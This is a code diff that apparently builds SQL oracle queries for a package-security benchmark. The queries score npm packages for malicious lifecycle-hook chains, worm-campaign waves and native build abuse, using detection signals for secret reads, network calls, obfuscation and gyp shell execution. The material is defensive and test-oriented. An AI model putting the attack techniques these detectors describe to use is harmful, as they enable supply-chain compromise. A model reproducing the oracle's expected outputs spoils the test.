+  WHERE (r.path IS NOT NULL OR regexp_matches(o.path, {sql(P.SCRIPT)})) AND NOT regexp_matches(o.path, {sql(P.BUILT)}) AND NOT regexp_matches(o.path, {sql(P.NOT_COMPARED)})),
+g AS (SELECT *, CASE WHEN absent THEN can ELSE list_filter(can, lambda x: NOT list_contains(could, x)) END AS gained FROM j),
+k AS (SELECT package, gained, CASE WHEN absent AND (run OR len(can) > 0) THEN 'absent_from_source' WHEN absent OR same THEN NULL WHEN len(gained) > 0 THEN 'sensitive_nodes_added' WHEN run THEN 'executable_modified' END AS kind FROM g),
+h AS (SELECT package, bool_or(kind <> 'executable_modified') AS critical, string_agg(DISTINCT kind, ',' ORDER BY kind) AS kinds, coalesce(array_to_string(list_sort(list_distinct(flatten(list(gained)))), ','), '') AS caps FROM k WHERE kind IS NOT NULL GROUP BY package),
+a AS (SELECT DISTINCT package FROM packages WHERE package IN (SELECT package FROM own)), t AS (SELECT DISTINCT package FROM tree)
+SELECT a.package, CASE WHEN t.package IS NULL THEN 15 WHEN critical THEN 95 ELSE 75 END AS score, CASE WHEN t.package IS NULL THEN 'low' WHEN critical THEN 'critical' ELSE 'high' END AS severity,
+  CASE WHEN t.package IS NULL THEN 'unverifiable' ELSE 'desync' END AS status, CASE WHEN t.package IS NULL THEN '' ELSE kinds END AS kinds, CASE WHEN t.package IS NULL THEN '' ELSE caps END AS capabilities
+FROM a LEFT JOIN t USING (package) LEFT JOIN h USING (package) WHERE t.package IS NULL OR kinds IS NOT NULL"""
+
+_LIFE = ", ".join(f"'{h}'" for h in P.LIFECYCLE)
+_TEST = {k: has("content", p) for k, p in (("e", P.EVALUATES), ("n", P.CONNECTS), ("u", P.ADDRESSES), ("v", P.ENV_SECRETS), ("r", P.READS), ("i", P.IDENTITIES))}
+ORACLE["hook_chains"] = WITH + f""", act AS (SELECT package, 'postinstall' AS hook, {pick_sql(HANDED, 'id // 2')} AS body FROM packages WHERE id % 2 = 0
+  UNION ALL SELECT h.package, h.hook, h.body FROM hooks h JOIN packages p USING (package) WHERE p.id % 2 = 1),
+one AS (SELECT package, path, arg_min(content, id) AS content FROM files GROUP BY 1, 2),
+t AS (SELECT *, {obfuscated_sql('content')} AS o, {', '.join(f'{v} AS {k}' for k, v in _TEST.items())}, {has('content', PAAS, P.HANDED_HOST)} AS paas FROM one),
+b AS (SELECT *, CASE WHEN e OR (o AND n) OR v THEN 90 WHEN r AND i AND n THEN 85 WHEN r AND i THEN 75 WHEN u THEN 70 WHEN n THEN 65 ELSE 0 END AS plain,
+  CASE WHEN e OR (o AND n) OR v THEN 'critical' WHEN (r AND i) OR u THEN 'high' ELSE 'medium' END AS level FROM t),
+s AS (SELECT package, path, content, level, CASE WHEN plain > 0 AND paas THEN least(100, plain + 15) ELSE plain END AS base FROM b),
+h AS (SELECT package, hook, regexp_extract(body, '^\\s*(?:node|sh|bash)\\s+([^\\s;&|]+)\\s*$', 1) AS named FROM act WHERE hook IN ({_LIFE}) OR hook LIKE 'pre%' OR hook LIKE 'post%'),
+m AS (SELECT h.package, hook, named, min(s.path) AS path FROM h JOIN s ON s.package = h.package AND (s.path = regexp_replace(named, '^\\.?/', '') OR ends_with(s.path, '/' || regexp_replace(named, '^\\.?/', ''))) WHERE named <> '' GROUP BY 1, 2, 3),
+f AS (SELECT m.*, s.content, s.base, s.level FROM m JOIN s USING (package, path) WHERE base > 0),
+need AS (SELECT DISTINCT package, hook, path, regexp_replace(unnest({' || '.join(f"regexp_extract_all(content, {sql(p)}, 1)" for p in P.NAMES_FILES)}), '^\\.?/', '') AS name FROM f),
+far AS (SELECT n.package, n.hook, n.path, n.name, min(s.path) AS there FROM need n JOIN s ON s.package = n.package AND (s.path = n.name OR ends_with(s.path, '/' || n.name)) GROUP BY 1, 2, 3, 4),
+on_ AS (SELECT r.package, r.hook, r.path, string_agg(r.name, '>' ORDER BY r.name) AS names, max(s.base) AS next FROM far r JOIN s ON s.package = r.package AND s.path = r.there WHERE s.base > 0 GROUP BY 1, 2, 3)
+SELECT f.package, f.hook, f.path, greatest(50, base) AS score, level AS severity, concat_ws('>', named, names) AS chain, greatest(base, coalesce(next, 0)) AS worst FROM f LEFT JOIN on_ USING (package, hook, path)"""
+
+ORACLE["worm_campaign"] = f"""WITH v AS (SELECT {sql_list(SCOPES)}[o_custkey % 4 + 1] || CAST(o_custkey AS VARCHAR) AS package, CAST(o_orderkey AS VARCHAR) AS version, o_orderkey AS o,
+    (o_orderkey * 37) % 2000 * 60000 AS p, {pick_sql(BODIES, 'o_orderkey')} AS body FROM orders),
+a AS (SELECT package, version, p + ((o * 13) % 200 - 20) * 1000 AS t, p, o // 4 % 3 = 1 AS odd FROM v WHERE o % 4 <> 2),
+burst AS (SELECT DISTINCT package FROM (SELECT package, count(*) OVER (PARTITION BY package ORDER BY p RANGE BETWEEN CURRENT ROW AND 7200000 FOLLOWING) AS n FROM v) WHERE n >= 3),
+seen AS (SELECT v.package, v.version, v.o % 4 <> 2 AS att, lag(v.version) OVER w AS b1, lag(v.o % 4 <> 2) OVER w AS n1, lag(v.o % 4 <> 2, 2) OVER w AS n2 FROM v WINDOW w AS (PARTITION BY v.package ORDER BY p, version)),
+d3 AS (SELECT package, version FROM seen WHERE att AND b1 IS NOT NULL AND NOT n1 AND NOT coalesce(n2, false) UNION SELECT package, version FROM a WHERE t - p BETWEEN 0 AND 59999 OR odd),
+c AS (SELECT {sql_list(SCOPES)}[c_custkey % 4 + 1] || CAST(c_custkey AS VARCHAR) AS package, c_custkey AS k FROM customer),
+r AS (SELECT v.package, v.version, v.o, b.package IS NOT NULL AS d1, b.package IS NOT NULL AND s.package IS NOT NULL AS d2, b.package IS NOT NULL AND d3.version IS NOT NULL AS d3, m.package IS NOT NULL AS d4, v.o % 31 = 0 AS d5,
+    list_contains({sql_list(HOOKED_EXFIL)}, body) AS d6, v.o % 19 = 0 AS d7
+  FROM v LEFT JOIN burst b USING (package) LEFT JOIN (SELECT package FROM c WHERE k % 3 = 0) s USING (package) LEFT JOIN d3 ON d3.package = v.package AND d3.version = v.version LEFT JOIN (SELECT package FROM c WHERE k % 11 = 0) m ON m.package = v.package)
+SELECT package, version, concat_ws(',', CASE WHEN d1 THEN 'D1' END, CASE WHEN d2 THEN 'D2' END, CASE WHEN d3 THEN 'D3' END, CASE WHEN d4 THEN 'D4' END, CASE WHEN d5 THEN 'D5' END, CASE WHEN d6 THEN 'D6' END, CASE WHEN d7 THEN 'D7' END) AS rules,
+  CASE WHEN d3 OR d5 OR d7 THEN 'critical' ELSE 'high' END AS severity,
+  CASE WHEN starts_with(package, '@tanstack') THEN 'wave1' WHEN starts_with(package, '@antv') THEN 'wave2' WHEN d7 THEN 'wave3' WHEN d5 THEN 'wave' || CAST(o % 3 + 1 AS VARCHAR) ELSE 'unknown' END AS wave
+FROM r WHERE d1 OR d2 OR d3 OR d4 OR d5 OR d6 OR d7"""
+
+
+def _weights(detector, column: str) -> tuple[str, str]:
+    """SQL: the summed weights of a detector's matches, and the names of signals that matched."""
+    total = " + ".join(f"{w} * {count(column, *ps)}" for w, ps in detector.signals.values())
+    return total, "list_filter([" + ", ".join(f"CASE WHEN {count(column, *ps)} > 0 THEN '{n}' END" for n, (_, ps) in detector.signals.items()) + "], lambda x: x IS NOT NULL)"
+
+
+_G, _B, _S = (_weights(d, "content") for d in BUILD_FILES.values())
+_GL = f"len(list_filter(string_split(content, chr(10)), lambda l: regexp_matches(l, '<!\\([^)]*\\)')))"
+_GF = f"len(regexp_extract_all(content, {sql(_LINKER)}))"
+ORACLE["build_abuse"] = WITH + f""", own AS (SELECT package, CASE WHEN id % 17 = 0 THEN 'x/addon.node' ELSE path END AS path, content, size * 400000 AS size, id FROM files),
+gyp AS (SELECT package, {pick_sql(GYP_LINES, 'id')} || chr(10) || {pick_sql(GYP_LINES, 'id // 3')} AS content FROM (SELECT package, min(id) AS id FROM own GROUP BY package) WHERE id % 3 <> 2),
+m AS (SELECT p.package, CASE WHEN p.id % 3 = 0 THEN 'install' END AS fixed, CASE WHEN p.id % 3 = 0 THEN {pick_sql(["node-gyp rebuild", "node-pre-gyp install", "make"], "p.id // 3")} END AS install, p.id % 5 = 0 AS gypfile FROM packages p),
+dec AS (SELECT package, gypfile OR coalesce(install, '') LIKE '%node-gyp%' OR coalesce(install, '') LIKE '%node-pre-gyp%' AS declared, coalesce(install, '') LIKE '%node-gyp rebuild%' AS rebuilds FROM m),
+e AS (SELECT package, {_G[0]} AS raw, {_G[1]} AS s FROM gyp UNION ALL SELECT package, {SHELL_ROW} * {_GL}, CASE WHEN {_GL} > 0 THEN ['gyp_shell_exec'] ELSE [] END FROM gyp
+  UNION ALL SELECT package, {LINKER_ROW} * {_GF}, CASE WHEN {_GF} > 0 THEN ['linker_flag'] ELSE [] END FROM gyp
+  UNION ALL SELECT package, {_B[0]}, {_B[1]} FROM own WHERE regexp_matches(path, '(?i)(\\.mk|makefile|cmakelists\\.txt|configure|\\.cmake)$') AND path NOT LIKE '%binding.gyp'
+  UNION ALL SELECT package, {_S[0]}, {_S[1]} FROM own WHERE regexp_matches(path, '(?i)\\.(c|cc|cpp|cxx|h|hpp)$')
+  UNION ALL SELECT package, 30, ['large_addon'] FROM own WHERE path = 'x/addon.node' AND size > 10485760
+  UNION ALL SELECT g.package, 20, ['gyp_present'] FROM gyp g LEFT JOIN dec USING (package) WHERE NOT coalesce(declared, false)
+  UNION ALL SELECT g.package, 45, ['undeclared_gyp'] FROM gyp g JOIN dec USING (package) WHERE NOT declared),
+t AS (SELECT package, sum(raw) AS raw, list_sort(list_distinct(flatten(list(s)))) AS s FROM e GROUP BY package HAVING sum(raw) > 0),
+z AS (SELECT t.*, coalesce(d.rebuilds, false) AND g.package IS NOT NULL AND (list_has_any(s, ['shell_exec', 'makefile_shell_exec', 'compile_macro_injection', 'gyp_shell_exec'])) AS armed FROM t LEFT JOIN dec d USING (package) LEFT JOIN gyp g USING (package)),
+y AS (SELECT package, CAST(least(100, raw + CASE WHEN armed THEN 99 ELSE 0 END) AS INT) AS score, array_to_string(list_sort(CASE WHEN armed THEN list_append(s, 'rebuilt_by_hook') ELSE s END), ',') AS signals FROM z)
+SELECT package, score, CASE WHEN score >= 70 THEN 'critical' WHEN score >= 50 THEN 'high' WHEN score >= 30 THEN 'medium' ELSE 'low' END AS severity, signals FROM y"""
